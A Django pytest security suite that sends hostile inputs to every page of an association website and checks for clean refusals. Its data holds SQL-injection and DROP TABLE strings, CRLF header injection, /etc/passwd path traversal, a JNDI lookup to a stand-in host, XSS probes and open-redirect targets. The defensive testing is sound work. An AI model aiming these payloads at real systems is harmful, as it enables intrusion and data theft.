"""Every address of the house is sent what no page of ours would send: a clear refusal, never a failure, nothing written.

The addresses come from the URL resolver and the objects from the access table, so that a new page is asked as well.
"""

import re
from functools import partial
from urllib.parse import urlencode

import pytest
from django.core.cache import cache
from django.db import transaction
from django.test import Client
from django.urls import NoReverseMatch, reverse

from association.models import User
from association.web import back
from tests import access
from tests.conftest import signed_in_client

TABLE = access.table()
HUGE = "9" * 30
ROWS = {(row.name, row.method): row for row in TABLE.rows if row.owner != "other"}
OURS = sorted({name for name, _ in ROWS if not name.endswith("*")})
# Nobody signs in or out here: that would change who asks the next question.
DOOR = ("account_log", "account_reauth", "mfa_", "usersessions_")
POSTS = [n for n in OURS if ROWS[n, "POST"].outcomes["secretary"] != "405"]
FORMS = [n for n in POSTS if not n.startswith(DOOR)]
VERBS = [n for n in OURS if (n, "GET") in ROWS and set(ROWS[n, "GET"].outcomes.values()) == {"405"}]


@pytest.fixture
def hostile(world):
    """Somebody with every right: what stops them is the guard against bad input, not their duties."""
    return client_for(world)


def client_for(world, person="secretary", **options):
    cache.clear()
    client = signed_in_client(world.people[person], raise_request_exception=False, **options)
    User.objects.filter(pk=world.people[person].pk).update(last_login=None)
    return client


def address(world, name, **put):
    """The address of a name with objects of the world in it; `put` replaces what fills its places."""
    words = str(TABLE.arguments.get(name, "")).split()
    filled = [world.own.get(word, word) for word in words]
    return reverse(name, args=[put.get("number", value) if isinstance(value, int) or str(value).isdigit() else value for value in filled])  # fmt: skip


def form_of(world, name):
    """Where the form of a name is sent to, and the least that it takes."""
    row = ROWS[name, "POST"]
    objects = {"-": {}}.get(row.owner, world.own)
    return TABLE.address(row, objects), TABLE.form(row, objects)


def failures(world, client, asked, *, allowed=range(200, 500)):
    """What answered with anything not `allowed`; fails when something was written meanwhile."""
    before, wrong = access.checksum(), {}
    for what, request in asked:
        with transaction.atomic():
            response = request()
            if getattr(response, "streaming", False):
                b"".join(response.streaming_content)
            transaction.set_rollback(response.status_code >= 500)
        if response.status_code not in allowed:
            wrong[what] = response.status_code
    after = access.checksum()
    assert {name for name in after if after[name] != before[name]} == set()
    return wrong


def pages(*, without=DOOR):
    return [n for n in OURS if not n.startswith(without)]


# --- addresses --------------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("number", [HUGE, "0", "9223372036854775807", "9223372036854775808", "-1"])
def test_ids_that_belong_to_nothing(world, hostile, number):
    """Huge, zero and negative: nothing is there, whatever the address is for."""
    asked = []
    # Whoever asks for an application, or for a place without an account, proves an address first, whatever the number.
    guests = ("activities:register", "activities:registration", "activities:mine", "activities:feedback_give")
    for name in pages(without=("account_", "join:", *guests, *DOOR)):
        if not any(str(world.own.get(w, w)).isdigit() for w in str(TABLE.arguments.get(name, "")).split()):
            continue
        try:
            url = address(world, name, number=int(number))
        except (
            NoReverseMatch
        ):  # the address itself takes no such number; whoever types it gets what is asked here
            url = re.sub(r"\d+", number, address(world, name))
        asked += [(f"{m} {url}", lambda m=m, url=url: getattr(hostile, m)(url)) for m in ("get", "post")]
    assert len(asked) > 40
    assert failures(world, hostile, asked, allowed=(403, 404, 405)) == {}


# Each asks for several things at once, each of them in another field.
BAD_QUERIES = {
    "nul": "q=%00&page=%00",
    "bad utf-8, lone surrogate": "q=%ff%fe&district=%c3%28&name=%ed%a0%80",
    "page 10^9": "page=1000000000",
    "page of nothing, dates of nothing": "page=-1&page=abc&page=1e9&page=%E4%B8%80&as_of=2022-02-30&joined_from=9999-12-31",
    "huge numbers": f"page={HUGE}&year={HUGE}&grade={HUGE}&pk={HUGE}&as_of={HUGE}&floor_area_min=1e308",
    "not numbers, far dates": "year=NaN&year=Infinity&floor_area_max=NaN&as_of=0001-01-01",
    "hidden columns": "sort=bank_account&order=-password&o=user__password&ordering=organization__bank_account&password=x"
    "&user__password__startswith=p&organization__credit_code__regex=(a+)%2B%24&columns=password,__class__,{{7*7}}&listing=nothing.here",
    "quotes, templates and breaks": "q='%20OR%201=1--%7B%7B%20settings.SECRET_KEY%20%7D%7D%7B%25%20debug%20%25%7D&name=%5C%25_%25_%25"
    "&district=a%0d%0aSet-Cookie:%20x=1&district=%27%3B%20DROP%20TABLE%20members_park%3B--&next=%0d%0aLocation:%20https://evil.test",
    "many, marks": "q=%E2%80%AE%E2%80%8B%EF%BB%BF%F0%9F%A6%84&" + "&".join(f"q{i}=1" for i in range(1500)),
    "long": "q=" + "x" * 7_000,
    "too long": "q=" + "x" * 9_000,
}


@pytest.mark.django_db
@pytest.mark.parametrize("kind", BAD_QUERIES)
def test_queries_that_no_page_sends(world, hostile, kind):
    asked = [
        (name, lambda name=name: hostile.get(f"{address(world, name)}?{BAD_QUERIES[kind]}"))
        for name in pages()
    ]
    assert failures(world, hostile, asked) == {}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    ["/\x00", "/%00", "/members/%00/", "/members/%ff/", "/members/1%00/", "/..%2f..%2fetc/passwd", "/\\evil.test",
     "/members/١/", "/members/1e3/", "/members/+1/", "/static/../association/settings.py", "/static/%2e%2e/manage.py",
     "/" + "a" * 5_000, "/files/00000000-0000-0000-0000-00000000000g/", "/members/0/?%", "/%F0%9F%A6%84"],
)  # fmt: skip
def test_paths_that_lead_nowhere(world, hostile, path):
    response = hostile.get(path)
    assert response.status_code in (400, 404)
    assert "SECRET_KEY" not in access.readable(response)


# --- headers ----------------------------------------------------------------------------------------------


FOREIGN = {
    "HTTP_X_FORWARDED_HOST": "evil.test",
    "HTTP_FORWARDED": "host=evil.test",
    "HTTP_X_FORWARDED_FOR": "127.0.0.1, x",
}
HTMX = {"HTTP_HX_REQUEST": "true"}
ODD_HTMX = [
    HTMX | {"HTTP_HX_TARGET": "../../etc/passwd", "HTTP_HX_TRIGGER": "x" * 3_000},
    HTMX | {"HTTP_HX_CURRENT_URL": "https://evil.test/\udcff"},
    {"HTTP_HX_REQUEST": "maybe", "HTTP_HX_BOOSTED": "x", "HTTP_HX_HISTORY_RESTORE_REQUEST": "true"},
    HTMX | {"HTTP_HX_CURRENT_URL": "%ff%00", "HTTP_HX_CURRENT_URL_URI_AUTOENCODED": "true"},
]  # fmt: skip
FORGED = {
    "htmx": [HTMX],
    "odd htmx": ODD_HTMX,
    "proxies, ranges, languages, agent": [FOREIGN | {
        "HTTP_X_ORIGINAL_URL": "/admin/", "HTTP_X_REWRITE_URL": "/admin/", "HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE",
        "HTTP_RANGE": "bytes=0-0,1-1,99999999-", "HTTP_IF_MODIFIED_SINCE": "never", "HTTP_IF_NONE_MATCH": '"*"',
        "HTTP_ACCEPT_LANGUAGE": "x" * 4_000 + ",*;q=NaN", "HTTP_ACCEPT": "\x7f/\x7f;q=9",
        "HTTP_USER_AGENT": "${jndi:ldap://evil.test/a}", "HTTP_REFERER": "https://evil.test/?<script>",
    }],
    "cookies": [{"HTTP_COOKIE": "theme=<script>; text_size=../; messages=x; sessionid=\x01; csrftoken="}],
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("kind", FORGED)
def test_forged_headers(world, hostile, kind):
    """Nothing fails, and neither a link nor a redirect takes its host from what was sent. Of several sets of headers each
    page is asked one: what reads them is the same for all."""
    told = []

    def ask(name, headers):
        response = hostile.get(address(world, name), **headers)
        told.extend([name] if "evil.test" in str(response.headers) else [])
        return response

    sets = FORGED[kind]
    asked = [(n, partial(ask, n, sets[number % len(sets)])) for number, n in enumerate(pages())]
    assert failures(world, hostile, asked) == {}
    assert told == []


@pytest.mark.django_db
@pytest.mark.parametrize(
    "host", ["evil.test", "testserver.evil.test", "testserver@evil.test", "testserver:x", "[::1", "", "a b"]
)
def test_a_foreign_host_gets_nothing(world, hostile, host):
    for name in ("association:front", "association:today", "account_login", "members:roster"):
        response = hostile.get(reverse(name), HTTP_HOST=host)
        assert response.status_code == 400
        assert "evil.test" not in access.readable(response)


# --- the way on -------------------------------------------------------------------------------------------


ELSEWHERE = ["https://evil.test/", "/\\evil.test", "\\\\evil.test", "javascript:alert(1)", "http:evil.test",
             "https:///evil.test", "\thttps://evil.test", "/\t/evil.test", "https://testserver@evil.test/", "https://testserver.evil.test"]  # fmt: skip


def leads_to(response):
    return response.headers.get("Location", "") + response.headers.get("HX-Redirect", "")


@pytest.mark.django_db
@pytest.mark.parametrize("headers", [{}, {"HTTP_HX_REQUEST": "true"}], ids=["page", "htmx"])
def test_no_form_leads_to_another_site(world, headers):
    """`next` sent with each form that does what it is for."""
    client, wrong = client_for(world), []
    for number, name in enumerate(FORMS):
        url, data = form_of(world, name)
        # Each form is asked one of them; what tells them apart is one function, asked all of them below.
        target = {"next": ELSEWHERE[number % len(ELSEWHERE)]}
        with transaction.atomic():
            response = client.post(f"{url}?{urlencode(target)}", data | target, **headers)
            transaction.set_rollback(True)
        if "evil" in leads_to(response) or "script" in leads_to(response):
            wrong.append(f"{name} {leads_to(response)}")
    assert wrong == []


@pytest.mark.parametrize("target", [*ELSEWHERE, "", "words", "members:roster", "..", "?a=b", "/\x00"])
def test_the_way_back_is_a_page_of_ours(rf, target):
    request = rf.post("/", {"next": target})
    way = back(request, "association:today")
    assert way == "/today/" or way == target.strip() == "/\x00"
    assert back(rf.post("/", {"next": "/members/?page=2"}), "association:today") == "/members/?page=2"


@pytest.mark.django_db
@pytest.mark.parametrize("target", ELSEWHERE)
def test_signing_in_leads_to_no_other_site(world, target):
    member = world.people["member"]
    member.set_password("long-enough-77")
    member.save()
    cache.clear()
    response = Client().post(
        "/accounts/login/", {"login": member.email, "password": "long-enough-77", "next": target}
    )
    assert (response.status_code, "evil" in leads_to(response), "script" in leads_to(response)) == (
        302,
        False,
        False,
    )


# --- forms ------------------------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("token", [{}, {"csrfmiddlewaretoken": "x" * 64}], ids=["none", "forged"])
def test_no_form_is_taken_without_its_token(world, token):
    client = client_for(world, enforce_csrf_checks=True)
    asked = []
    for name in POSTS:
        url, data = form_of(world, name)
        if name not in WITHOUT_TOKEN:
            asked += [
                (name, lambda url=url, data=data: client.post(url, data | token)),
                (
                    f"{name} by htmx",
                    lambda url=url, data=data: client.post(url, data | token, HTTP_HX_REQUEST="true"),
                ),
            ]
    assert len(asked) > 60
    assert failures(world, client, asked, allowed=(403,)) == {}


# They answer to every method and change nothing.
WITHOUT_TOKEN = {"livez", "readyz"}


@pytest.mark.django_db
def test_nothing_is_done_by_looking(world, hostile):
    assert len(VERBS) > 15
    asked = [
        (f"{m} {name}", lambda m=m, name=name: getattr(hostile, m)(address(world, name)))
        for name in VERBS
        for m in ("get", "head", "options", "put", "patch", "delete", "trace")
    ]
    assert failures(world, hostile, asked, allowed=(405,)) == {}


@pytest.mark.django_db
@pytest.mark.parametrize("method", ["put", "patch", "delete", "trace"])
def test_no_page_knows_other_methods(world, hostile, method):
    asked = [(name, lambda name=name: getattr(hostile, method)(address(world, name))) for name in pages()]
    assert failures(world, hostile, asked) == {}


BAD_VALUES = ["\x00", "\ud800", "x" * 20_000, "9" * 400, "NaN", "1e400", "-1", "{{7*7}}", "<script>alert(1)</script>", "a\r\nBcc: x@y.cn",
              "\u202e\u200b", "2022-02-30", "[]", "true"]  # fmt: skip


def bad_forms(good):
    """The row's own form with every value replaced, in turn by each of the bad ones."""
    for value in BAD_VALUES:
        yield dict.fromkeys(good, value.encode("utf-8", "surrogatepass").decode("utf-8", "surrogateescape"))
    yield {}
    yield {f"{key}[]": value for key, value in good.items()}
    yield good | {
        "form-TOTAL_FORMS": "1000000",
        "form-INITIAL_FORMS": "-1",
        "_key": "not-a-uuid",
        "version": HUGE,
    }


@pytest.mark.django_db
@pytest.mark.parametrize("part", range(4))
def test_forms_with_bad_values_do_not_fail(world, part):
    client, wrong = client_for(world), {}
    for name in FORMS[part::4]:
        url, good = form_of(world, name)
        for place, form in enumerate(bad_forms(good)):
            body = urlencode(form, errors="surrogateescape")
            with transaction.atomic():
                response = client.post(url, body, content_type="application/x-www-form-urlencoded")
                shown = access.readable(response)
                transaction.set_rollback(True)
            if response.status_code >= 500:
                wrong[name, place] = response.status_code
            if response.status_code >= 400 and "<script>alert(1)</script>" in shown:
                wrong[name, place] = "script"
    assert wrong == {}


EXTRA = {
    "is_superuser": "on", "is_staff": "on", "is_active": "on", "role": "administrator", "roles": "administrator", "status": "done",
    "state": "done", "paid": "1", "id": "1", "pk": "1", "organization": "{other}", "organization_id": "{other}", "user": "1",
    "user_id": "1", "confirmed_at": "2022-01-01", "confirmed_by": "1", "granted_by": "1", "member_number": "BCIPA99999", "is_demo": "on",
    "latest_joined_on": "1990-01-01", "membership_count": "99", "applied_at": "2022-01-01", "password": "x", "session_round": "9",
}  # fmt: skip


@pytest.mark.django_db
@pytest.mark.parametrize("part", range(2))
def test_fields_that_the_form_does_not_have_do_nothing(world, part):
    """The same form with and without them leaves the same rights, numbers and owners behind."""
    client, wrong = client_for(world), {}
    for name in FORMS[part::2]:
        url, good = form_of(world, name)
        others = EXTRA.keys() - good.keys() - FIELDS.get(name, set())
        extra = {key: EXTRA[key].format(other=world.other["unit"]) for key in others}
        left = []
        for form in (good, good | extra):
            with transaction.atomic():
                client.post(url, form)
                left.append(privileges())
                transaction.set_rollback(True)
        if left[0] != left[1]:
            wrong[name] = left
    assert wrong == {}


# Where a name of EXTRA is a field of the form itself.
FIELDS: dict[str, set] = {}


def privileges():
    """What those fields would have changed: accounts, duties, numbers, memberships and states. Units by their names: a
    new one has another key each time."""
    from django.db import connection  # noqa: PLC0415

    asked = [
        "SELECT is_superuser, is_staff, is_active, count(*) FROM association_user GROUP BY 1, 2, 3 ORDER BY 1, 2, 3",
        "SELECT role, user_id, granted_by_id, confirmed_by_id, confirmed_at IS NULL FROM association_roleassignment ORDER BY id",
        "SELECT member_number, is_demo, membership_count, latest_joined_on FROM members_organization ORDER BY id",
        "SELECT u.name, count(*) FROM members_park p JOIN members_organization u ON u.id = p.organization_id GROUP BY 1 ORDER BY 1",
        "SELECT u.name, duty, count(*) FROM members_contactrole r JOIN members_organization u ON u.id = r.organization_id GROUP BY 1, 2 ORDER BY 1, 2",
        "SELECT user_id, is_demo, count(*) FROM members_contact GROUP BY 1, 2 ORDER BY 1, 2",
        "SELECT state, applied_at IS NULL, count(*) FROM association_importbatch GROUP BY 1, 2 ORDER BY 1, 2",
    ]
    with connection.cursor() as cursor:
        found = []
        for sql in asked:
            cursor.execute(sql)
            found.append(cursor.fetchall())
        return found


def test_the_lists_are_not_empty():
    """They follow the access table, whose own test sees to it that no address is missing."""
    assert min(len(OURS) - 60, len(FORMS) - 25, len(VERBS) - 15) > 0
